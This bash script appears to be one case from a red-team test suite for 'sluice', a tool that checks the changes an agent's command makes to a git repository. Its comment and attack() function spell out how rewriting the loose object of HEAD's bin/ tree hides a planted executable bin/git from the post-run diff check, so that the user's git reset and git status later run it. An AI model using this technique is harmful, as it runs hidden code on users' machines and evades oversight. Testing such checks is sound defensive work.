#!/usr/bin/env bash
# red team 48: an object of HEAD's, rewritten in place. git names an object
# by its content's hash but reads a subtree (as git reset --hard, checkout
# and diff-index walk one) without checking it; the run may write .git/
# objects. The user's repository has a bin/ (on their PATH through direnv's
# PATH_add bin) with a helper. The command writes a tree of bin/ holding
# the helper and an executable git, copies its loose object file over the
# one of HEAD:bin (same name, the command's content), and runs `git
# read-tree HEAD`. HEAD, the branch and every ref are as they were; the
# index now holds bin/git, and so does "HEAD" as any git reads it, so the
# check after the run (git diff-index --cached HEAD) sees no difference.
# `git status` shows " D bin/git", as if the agent had deleted a tracked
# file; the user's `git reset --hard` writes it back, executable, and the
# next `git status` runs it. (A packed repository: the command unpacks the
# pack first. The root tree rewritten instead: the check fails with "hash
# mismatch", said, while the staged bin/git stays for git checkout .)
# usage: 48-object-rewritten.sh /path/to/sluice   (as root or a user)
NAME=object-rewritten
HOLE="the user's git reset --hard wrote the command's bin/git from a rewritten tree object; the next git status ran it"
. "$(dirname "$0")/48-lib.sh"
setup() {
  new_repo "$1" && mkdir "$1/bin" && printf '#!/bin/sh\necho formatted\n' >"$1/bin/fmt" &&
    chmod +x "$1/bin/fmt" && git -C "$1" add bin && git -C "$1" commit -qm 'bin/fmt'
}
attack() {
  plant "$1"
  echo '&& e=$( ($G ls-tree HEAD:bin; printf "100755 blob %s\tgit\n" $b) | $G mktree) && o=$($G rev-parse HEAD:bin)'
  echo '&& f=.git/objects/$(echo $o | cut -c1-2)/$(echo $o | cut -c3-) && rm -f $f'
  echo '&& cp .git/objects/$(echo $e | cut -c1-2)/$(echo $e | cut -c3-) $f && $G read-tree HEAD'
}
trigger() {
  echo "   git status --short: $(git -C "$1" status --short 2>&1 | tr '\n' ' ')"
  git -C "$1" reset -q --hard >/dev/null 2>&1; user_status "$1"
}
finish
